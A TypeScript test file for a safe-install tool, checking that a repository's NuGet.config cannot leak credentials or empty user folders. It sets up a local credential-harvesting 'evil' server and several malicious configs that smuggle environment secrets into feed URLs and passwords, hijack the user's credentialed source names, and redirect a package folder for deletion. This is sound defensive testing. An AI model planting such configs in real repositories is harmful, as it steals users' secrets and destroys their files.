/** A NuGet.config that came with a clone or a pull request: it must not send what is the user's to somebody else. */
import { safeInstall } from "../support/cli.ts";
import { temporaryFolder } from "../support/folder.ts";
import {
  csproj,
  dotnetEnvironment,
  hasDotnet,
  nugetConfig,
  plainDotnet,
  writeFiles,
} from "../support/nuget/project.ts";
import { policyFor, type Scene, type Stage, stage, startScene } from "../support/nuget/scene.ts";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";

const ID = "Acme.Widget";
const SECRETS = {
  AWS_SECRET: "aws-secret",
  NuGetPackageSourceCredentials_ci: "Username=any;Password=ci-secret",
};
const credentials = (name: string, password: string) =>
  `<packageSourceCredentials><${name}><add key="Username" value="any" /><add key="ClearTextPassword" value="${password}" /></${name}></packageSourceCredentials>`;

/** Asks everybody for credentials; what it heard is in `heard`, decoded. */
const evil = { url: "", heard: [] as string[] };
const server = createServer(({ url, headers: { authorization = "" } }, response) => {
  const said = Buffer.from(authorization.replace("Basic ", ""), "base64").toString();
  evil.heard.push(`${url} ${said}`);
  response.writeHead(said === "" ? 401 : 404, { "www-authenticate": 'Basic realm="feed"' }).end();
});

let scene: Scene;
beforeAll(async () => {
  scene = await startScene();
  await scene.publish({ id: ID, version: "1.0.0" });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  evil.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
beforeEach(() => void (evil.heard.length = 0));
afterAll(() => Promise.all([scene.feed.close(), new Promise((done) => server.close(done))]));

/** `corp` is the user's: with a password for the good feed. */
function begin(config: string, more: Readonly<Record<string, string>> = {}, registries: readonly string[] = []): Stage {
  const folder = temporaryFolder();
  const where = { project: join(folder, "app"), home: join(folder, "home") };
  const own = nugetConfig({ corp: scene.feed.url }, credentials("corp", "user-secret"));
  writeFiles(where.home, { ".nuget/NuGet/NuGet.Config": own });
  const files = { "app.csproj": csproj({ [ID]: "1.0.0" }), "nuget.config": config, ...more };
  return stage(
    scene,
    where,
    files,
    policyFor([ID], registries.length === 0 ? {} : { registries: { nuget: registries } }),
  );
}

async function run({ project, home }: Stage, ...words: string[]) {
  const before = scene.feed.requests.length;
  const env = { ...dotnetEnvironment(home), ...SECRETS };
  const outcome = await safeInstall(words, { cwd: project, home, env });
  return { ...outcome, asked: [...scene.feed.requests.slice(before), ...evil.heard] };
}

const LOCK = JSON.stringify({ version: 1, dependencies: { "net10.0": {} } });
const LEAKS: readonly (readonly [what: string, config: () => string, secret: string])[] = [
  ["a variable in an address", () => nugetConfig({ feed: `${evil.url}/%AWS_SECRET%/index.json` }), "aws-secret"],
  [
    "a variable in an address, in letters that NuGet reads as well",
    () => nugetConfig({ feed: `${evil.url}/%AWS_SECRET%/index.json` }).replaceAll("<add ", "<ADD "),
    "aws-secret",
  ],
  [
    "a variable in a password",
    () => nugetConfig({ feed: `${evil.url}/index.json` }, credentials("feed", "%AWS_SECRET%")),
    "aws-secret",
  ],
  ["the name of a source of the user's", () => nugetConfig({ corp: `${evil.url}/index.json` }), "user-secret"],
  ["the name that a variable has credentials for", () => nugetConfig({ ci: `${evil.url}/index.json` }), "ci-secret"],
];

describe.skipIf(!hasDotnet)("what a repository's NuGet.config would send to an origin of its own", () => {
  it.each(LEAKS)(
    "%s: plain dotnet sends it; ours refuses, and nothing is asked of anybody",
    async (_, config, secret) => {
      const app = begin(config(), { "packages.lock.json": LOCK });
      for (const words of [["check"], ["dotnet", "restore"]]) {
        const { exit, stdout, stderr, asked } = await run(app, ...words);
        expect({ exit, stderr, asked }).toMatchObject({
          exit: 64,
          stderr: expect.stringMatching(/REPOSITORY_NUGET_CONFIG[^]*your own NuGet\.config/),
          asked: [],
        });
        expect(stdout + stderr).not.toContain(secret);
      }
      await plainDotnet(["restore"], { cwd: app.project, home: app.home, env: SECRETS });
      expect(evil.heard.join("\n")).toContain(secret);
    },
  );

  it.each([
    ["dotnet add package", ["dotnet", "add", "package", ID]],
    ["dotnet tool restore", ["dotnet", "tool", "restore"]],
    ["a project SDK", ["dotnet", "restore", "sdk/sdk.proj"]],
  ])("%s: refused, and nothing is asked", async (_, words) => {
    const app = begin(nugetConfig({ corp: `${evil.url}/index.json` }), {
      "sdk/sdk.proj": '<Project Sdk="Acme.Sdk/1.0.0" />',
      ".config/dotnet-tools.json": JSON.stringify({
        version: 1,
        tools: { "acme.tool": { version: "1.0.0", commands: ["acme"] } },
      }),
    });
    const { exit, stderr, asked } = await run(app, ...words);
    expect({ exit, stderr, asked }).toMatchObject({
      exit: 64,
      stderr: expect.stringContaining("REPOSITORY_NUGET_CONFIG"),
      asked: [],
    });
  });
});

describe.skipIf(!hasDotnet)("commands that pass by the gate", () => {
  it.each([
    ["package search", LEAKS[0]!, ["package", "search", ID]],
    ["nuget push", LEAKS[3]!, ["nuget", "push", "app.csproj", "-s", "corp", "-k", "key-of-the-user"]],
  ])(
    "%s: plain dotnet sends it; ours refuses, and nothing is asked of anybody",
    async (_, [, config, secret], words) => {
      const app = begin(config());
      const { exit, stderr, asked } = await run(app, "dotnet", ...words);
      expect({ exit, stderr, asked }).toMatchObject({
        exit: 64,
        stderr: expect.stringContaining("REPOSITORY_NUGET_CONFIG"),
        asked: [],
      });
      await plainDotnet(words, { cwd: app.project, home: app.home, env: SECRETS });
      expect(evil.heard.join("\n")).toContain(secret);
    },
  );

  it("nuget locals: plain dotnet empties a folder that the repository names; ours does not", async () => {
    const config =
      '<configuration><config><add key="globalPackagesFolder" value="../home/mine" /></config></configuration>';
    const app = begin(config);
    const mine = join(app.home, "mine", "all.txt");
    writeFiles(app.home, { "mine/all.txt": "of years" });
    const words = ["nuget", "locals", "global-packages", "--clear"];
    const { exit, stderr } = await run(app, "dotnet", ...words);
    expect({ exit, stderr }).toMatchObject({ exit: 64, stderr: expect.stringContaining("would be emptied") });
    expect(existsSync(mine)).toBe(true);
    await plainDotnet(words, { cwd: app.project, home: app.home });
    expect(existsSync(mine)).toBe(false);
  });
});

describe.skipIf(!hasDotnet)("what it is for", () => {
  it("still works: a variable and stored credentials for an origin that the user knows, or the policy", async () => {
    const known = nugetConfig({ feed: scene.feed.url, ci: scene.feed.url }, credentials("feed", "%AWS_SECRET%"));
    const { exit, stderr } = await run(begin(known), "dotnet", "restore");
    expect({ exit, stderr }).toMatchObject({
      exit: 0,
      stderr: expect.stringContaining("1 package: 1 publisher verified"),
    });
    const other = nugetConfig({ feed: scene.feed.url, ci: `${evil.url}/index.json` });
    expect((await run(begin(other, { "packages.lock.json": LOCK }), "check")).exit).toBe(64);
    expect((await run(begin(other, { "packages.lock.json": LOCK }, [evil.url]), "check")).exit).toBe(0);
  });
});
